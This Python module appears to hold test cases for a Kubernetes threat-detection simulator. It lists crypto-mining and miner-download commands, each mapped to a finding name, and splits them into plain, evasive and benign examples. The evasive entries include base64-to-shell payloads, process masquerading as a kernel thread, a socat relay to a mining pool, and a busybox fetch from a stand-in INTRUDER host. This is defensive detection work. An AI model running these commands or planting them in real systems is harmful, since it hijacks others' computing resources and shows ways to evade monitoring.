"""Commands about the mining of coins: the words that give it away, and how miners are fetched."""

from __future__ import annotations

from simulation.attacks.shells import Started
from simulation.attacks.tables import Place, encoded, line, run, table

MINING = "K8S.NODE_DigitalCurrencyMining"
DOWNLOAD = "K8S.NODE_CryptoCoinMinerDownload"
ARTIFACTS = "K8S.NODE_CryptoCoinMinerArtifacts"
EXECUTION = "K8S.NODE_CryptoCoinMinerExecution"
WALLET = "48" + ("AnExampLeWaLLetThatNobodyHasEver9" * 3)[:93]
"""Of the shape of a Monero address, and invented."""
ETHER_WALLET = "0x7e57ab1e00000000000000000000000000000000"
RUNNER = ("ci", "gitlab-runner")
HIDDEN = f"/opt/.cache/dbus --url=stratum+ssl://gulf.moneroocean.stream:20128 --user={WALLET} --pass=w1"
LAUNCHER = (
    "import subprocess as s;s.Popen(['/opt/lib/kthreadd','-a','rx/0','-o','gulf.moneroocean.stream:443','-u',"
    f"'{WALLET}'])"
)

table(
    MINING,
    straight=[
        run(
            f"/opt/xmrig -o stratum+tcp://pool.supportxmr.com:3333 -u {WALLET} -p x --donate-level 1",
            at=Place.EXEC,
            also=(ARTIFACTS, EXECUTION),
        ),
        run(
            f"/opt/m/miner --algo rx/0 --nicehash --url stratum+tls://pool.hashvault.pro:443 --user {WALLET}",
            at=Place.EXEC,
            also=(ARTIFACTS,),
        ),
        run(f"/usr/local/sbin/update-agent -o xmr-eu1.nanopool.org:10300 -u {WALLET}.node7", at=Place.HOST),
        run(
            f"/opt/eth/bin/e -a ethash -o stratum+tcp://eth.2miners.com:2020 -u {ETHER_WALLET}",
            at=Place.ENTRY,
            also=(ARTIFACTS,),
        ),
    ],
    careful=[
        line(
            f"nice -n 19 env XDG_RUNTIME_DIR=/run {HIDDEN}",
            runs=[
                Started(
                    f"nice -n 19 env XDG_RUNTIME_DIR=/run {HIDDEN}",
                    [Started(f"env XDG_RUNTIME_DIR=/run {HIDDEN}", [HIDDEN])],
                )
            ],
            at=Place.EXEC,
            also=(ARTIFACTS, EXECUTION),
        ),
        line(
            f"echo {encoded(HIDDEN)} | base64 -d | sh",
            runs=["base64 -d", Started("sh", [HIDDEN])],
            at=Place.EXEC,
            also=(ARTIFACTS,),
        ),
        line(
            f'P=strat; Q=um+tcp; exec -a "[kworker/u8:2]" /opt/.k -o "$P$Q://pool.c3pool.com:15555" -u "{WALLET}"',
            runs=[
                Started(("[kworker/u8:2]", "-o", "stratum+tcp://pool.c3pool.com:15555", "-u", WALLET), binary="/opt/.k")
            ],
            interpreter="bash",
            at=Place.EXEC,
            also=(ARTIFACTS,),
        ),
        run(
            "socat TCP-LISTEN:8443,fork,reuseaddr TCP:xmr-eu1.nanopool.org:14433",
            at=Place.EXEC,
            also=("K8S.NODE_SuspectPortForwarding",),
        ),
    ],
    quiet=[
        line("ps aux | grep -i xmrig", at=Place.EXEC),
        run(("grep", "-rn", "stratum+tcp://", "/etc/suricata/rules"), at=Place.HOST),
        run("kubectl get pods --all-namespaces -l app=xmrig -o wide", at=Place.HOST),
        run("kubectl logs deploy/pool-metrics -n monitoring --tail 50", at=Place.HOST),
    ],
)

RELEASE = "https://github.com/xmrig/xmrig/releases/download/v6.22.2/xmrig-6.22.2-linux-static-x64.tar.gz"
SRB = "https://github.com/doktor83/SRBMiner-Multi/releases/download/2.7.4/SRBMiner-Multi-2-7-4-Linux.tar.gz"
FETCH_SRB = f"curl -fsSL {SRB} -o /opt/a.tgz"

table(
    DOWNLOAD,
    straight=[
        run(f"wget {RELEASE}", at=Place.EXEC, cwd="/app"),
        run(f"curl -sLO {RELEASE}", at=Place.EXEC, cwd="/app"),
        run("git clone https://github.com/tpruvot/cpuminer-multi.git", at=Place.EXEC, cwd="/app"),
        run("docker pull metal3d/xmrig:latest", at=Place.HOST),
    ],
    careful=[
        run(
            (
                "python3",
                "-c",
                "import urllib.request as u;u.urlretrieve('https://files.pale-harbor.example/k','xmrig')",
            ),
            at=Place.EXEC,
            cwd="/app",
        ),
        line(
            RELEASE.join(("wget -q ", " -O lib.tgz")).replace("xmrig/xmrig/", "x\"m\"rig/xm''rig/"),
            runs=[f"wget -q {RELEASE} -O lib.tgz"],
            at=Place.EXEC,
            cwd="/app",
        ),
        line(
            f"echo {encoded(FETCH_SRB)} | base64 -d | bash",
            runs=["base64 -d", Started("bash", [FETCH_SRB])],
            at=Place.EXEC,
        ),
        run(
            "curl -fsSo c.json https://raw.githubusercontent.com/MoneroOcean/xmrig_setup/master/config.json",
            at=Place.EXEC,
            cwd="/app",
        ),
        run(
            "busybox wget -q -O /var/tmp/.x http://INTRUDER/xmrig",
            also=("K8S.NODE_Webshell", "K8S.NODE_SuspectDownloadArtifacts"),
            connects=("INTRUDER", 80),
        ),
    ],
    quiet=[
        run("apt-cache search cpuminer", at=Place.HOST),
        run("grep -n -A4 xmrig /usr/share/doc/runbooks/miners.md", at=Place.HOST),
        run("man cgminer", at=Place.HOST),
        run("pip download --no-deps pm4py==2.7.11", at=Place.ENTRY, workload=RUNNER, cwd="/builds"),
    ],
)
